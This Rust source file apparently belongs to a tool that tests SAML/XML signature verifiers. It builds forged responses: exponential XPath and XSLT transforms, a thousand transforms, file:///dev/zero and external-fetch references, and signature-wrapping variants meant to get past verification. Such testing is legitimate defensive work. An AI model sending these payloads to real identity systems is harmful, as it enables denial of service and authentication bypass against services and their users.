//! Attacks through what a signature refers to, and how: the XML security
//! library follows references and runs transforms before it verifies.

use crate::{
    forge::{
        Assertion, Signature, Signed,
        sign::{Reference, algorithm, transforms},
        xml::{ENVELOPED, EXCLUSIVE_C14N, element},
    },
    scene::{AttackScene, ForgedMessage, RSA, replaced},
};

/// An assertion about the attacker whose signature, by the identity provider's
/// own key, was bent: as bad as it can be.
fn with_changed_signature(
    scene: &AttackScene,
    bend: impl FnOnce(&mut Signature, &Assertion),
) -> ForgedMessage {
    let assertion = scene.assertion();
    let mut signature = assertion.signature(&scene.idp, RSA);
    bend(&mut signature, &assertion);
    scene.response(assertion.xml(&signature.xml())).xml("").into()
}

/// A transform in the place of the canonicalization, where one is expected.
fn with_transform(scene: &AttackScene, transform: &str) -> ForgedMessage {
    with_transforms(scene, &(algorithm("ds:Transform", ENVELOPED, "") + transform))
}

fn with_transforms(scene: &AttackScene, transforms: &str) -> ForgedMessage {
    with_changed_signature(scene, |signature, _| {
        for reference in &mut signature.references {
            reference.transforms = transforms.to_owned();
        }
    })
}

/// An XPath that looks at everything once for each thing that there is.
pub(crate) fn xpath_transform(scene: &AttackScene) -> ForgedMessage {
    let all = "//. | //@* | //namespace::*";
    let path = format!("count({all}) &gt; count(({all})[count({all}) &gt; count(({all})[1])])");
    let path = element("ds:XPath", &[], &path);
    let xpath = "http://www.w3.org/TR/1999/REC-xpath-19991116";
    let xpath = algorithm("ds:Transform", xpath, &path);
    with_transform(scene, &xpath)
}

/// The same, in the filter that came later.
pub(crate) fn xpath_filter_transform(scene: &AttackScene) -> ForgedMessage {
    let namespace = "http://www.w3.org/2002/06/xmldsig-filter2";
    let attributes = [("xmlns:f", namespace), ("Filter", "intersect")];
    let path = element("f:XPath", &attributes, "//*[count(//.) &gt; count(//*[count(//.)])]");
    with_transform(scene, &algorithm("ds:Transform", namespace, &path))
}

/// An XSLT that would count to 10 to the 12th.
pub(crate) fn xslt_transform(scene: &AttackScene) -> ForgedMessage {
    let namespace = "http://www.w3.org/1999/XSL/Transform";
    let mut sheet = String::new();
    for level in 0..12 {
        let call = format!("<xsl:call-template name=\"t{}\"></xsl:call-template>", level + 1);
        sheet += &format!("<xsl:template name=\"t{level}\">{}</xsl:template>", call.repeat(10));
    }
    sheet += "<xsl:template name=\"t12\"></xsl:template>";
    sheet += "<xsl:template match=\"/\"><xsl:call-template name=\"t0\"></xsl:call-template></xsl:template>";
    let sheet = element("xsl:stylesheet", &[("xmlns:xsl", namespace), ("version", "1.0")], &sheet);
    let xslt = "http://www.w3.org/TR/1999/REC-xslt-19991116";
    with_transform(scene, &algorithm("ds:Transform", xslt, &sheet))
}

/// A thousand canonicalizations.
pub(crate) fn thousand_transforms(scene: &AttackScene) -> ForgedMessage {
    let more = algorithm("ds:Transform", EXCLUSIVE_C14N, "").repeat(1_000);
    with_transforms(scene, &(algorithm("ds:Transform", ENVELOPED, "") + &more))
}

/// One transform more than there may be.
pub(crate) fn third_transform(scene: &AttackScene) -> ForgedMessage {
    with_transforms(scene, &(transforms() + &algorithm("ds:Transform", EXCLUSIVE_C14N, "")))
}

/// A transform that nobody knows.
pub(crate) fn unknown_transform(scene: &AttackScene) -> ForgedMessage {
    with_transform(scene, &algorithm("ds:Transform", "urn:example:nothing-is-signed", ""))
}

/// The whole signature is not taken out of what is signed.
pub(crate) fn no_enveloped_transform(scene: &AttackScene) -> ForgedMessage {
    with_transforms(scene, &algorithm("ds:Transform", EXCLUSIVE_C14N, ""))
}

/// Canonicalization that carries in what the context declares.
pub(crate) fn inclusive_canonicalization(scene: &AttackScene) -> ForgedMessage {
    let inclusive = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315";
    with_transform(scene, &algorithm("ds:Transform", inclusive, ""))
}

/// Canonicalization by an algorithm that nobody knows.
pub(crate) fn unknown_canonicalization(scene: &AttackScene) -> ForgedMessage {
    with_changed_signature(scene, |signature, _| {
        signature.canonicalization = "urn:example:nothing-is-signed"
    })
}

fn with_reference(scene: &AttackScene, uri: Option<&str>) -> ForgedMessage {
    let uri = uri.map(str::to_owned);
    with_changed_signature(scene, |signature, _| {
        for reference in &mut signature.references {
            reference.uri.clone_from(&uri);
        }
    })
}

/// A reference that would be fetched.
pub(crate) fn external_reference(scene: &AttackScene) -> ForgedMessage {
    ForgedMessage::calling(|address| {
        let assertion = scene.assertion();
        let mut signature = assertion.signature(&scene.idp, RSA);
        for reference in &mut signature.references {
            reference.uri = Some(address.to_owned());
        }
        scene.response(assertion.xml(&signature.xml())).xml("")
    })
}

/// A reference to a file that never ends.
pub(crate) fn file_reference(scene: &AttackScene) -> ForgedMessage {
    with_reference(scene, Some("file:///dev/zero"))
}

/// A reference to the whole document, signed by the identity provider: it
/// covers all, and yet not what saml-core 5.4.2 says.
pub(crate) fn empty_reference(scene: &AttackScene) -> ForgedMessage {
    let response = scene.response(scene.assertion().xml(""));
    let mut signature = response.signature(&scene.idp, RSA);
    for reference in &mut signature.references {
        reference.uri = Some(String::new());
    }
    response.xml(&signature.xml()).into()
}

/// A reference without an address.
pub(crate) fn reference_without_uri(scene: &AttackScene) -> ForgedMessage {
    with_reference(scene, None)
}

/// A reference to nothing.
pub(crate) fn reference_to_nothing(scene: &AttackScene) -> ForgedMessage {
    with_reference(scene, Some("#_nothing"))
}

/// A reference by an expression that finds the assertion.
pub(crate) fn xpointer_reference(scene: &AttackScene) -> ForgedMessage {
    with_reference(scene, Some("#xpointer(id('_assertion'))"))
}

/// A reference by an expression that finds the whole document.
pub(crate) fn xpointer_to_the_root(scene: &AttackScene) -> ForgedMessage {
    with_reference(scene, Some("#xpointer(/)"))
}

/// An ID that is an expression, and the reference that names it.
pub(crate) fn expression_as_id(scene: &AttackScene) -> ForgedMessage {
    let mut assertion = scene.assertion();
    assertion.id = "xpointer(/)".into();
    scene.response(assertion.signed(&scene.idp)).xml("").into()
}

/// Two references, both to the assertion.
pub(crate) fn several_references(scene: &AttackScene) -> ForgedMessage {
    with_changed_signature(scene, |signature, _| {
        let second: Vec<Reference> = signature.references.clone();
        signature.references.extend(second);
    })
}

/// No reference: the signature covers nothing.
pub(crate) fn no_reference(scene: &AttackScene) -> ForgedMessage {
    with_changed_signature(scene, |signature, _| signature.references.clear())
}

/// References in a manifest, which no verifier has to check.
pub(crate) fn manifest(scene: &AttackScene) -> ForgedMessage {
    with_changed_signature(scene, |signature, _| {
        let manifest = element("ds:Manifest", &[("Id", "_manifest")], "");
        signature.objects = element("ds:Object", &[], &manifest);
    })
}

/// A key that would be fetched.
pub(crate) fn key_retrieved_from_elsewhere(scene: &AttackScene) -> ForgedMessage {
    ForgedMessage::calling(|address| {
        let assertion = scene.assertion();
        let mut signature = assertion.signature(&scene.idp, RSA);
        let kind = "http://www.w3.org/2000/09/xmldsig#rawX509Certificate";
        let method = element("ds:RetrievalMethod", &[("Type", kind), ("URI", address)], "");
        signature.key_info = element("ds:KeyInfo", &[], &method);
        scene.response(assertion.xml(&signature.xml())).xml("")
    })
}

/// Two signatures in one assertion: the first by somebody else.
pub(crate) fn two_signatures(scene: &AttackScene) -> ForgedMessage {
    let assertion = scene.assertion();
    let genuine = assertion.signature(&scene.idp, RSA).xml();
    let other = assertion.signature(&scene.attacker(), RSA).xml();
    scene.response(assertion.xml(&(other + &genuine))).xml("").into()
}

/// The genuine signature elsewhere: not in what it signs.
pub(crate) fn signature_elsewhere(scene: &AttackScene) -> ForgedMessage {
    let assertion = scene.assertion();
    let signature = assertion.signature(&scene.idp, RSA).xml();
    let xml = scene.response(assertion.xml("")).xml("");
    let detail = element("samlp:StatusDetail", &[], &signature);
    replaced(&xml, "</samlp:Status>", &format!("{detail}</samlp:Status>")).into()
}

/// Attributes of another namespace beside the real ones: who looks at local
/// names alone may take either.
pub(crate) fn shadowed_uri(scene: &AttackScene) -> ForgedMessage {
    let xml = scene.valid_response(Signed::Assertion);
    let uri = " URI=\"#_assertion\"";
    let shadow = format!("{uri} xmlns:x=\"urn:example:x\" x:URI=\"file:///dev/zero\"");
    replaced(&xml, uri, &shadow).into()
}
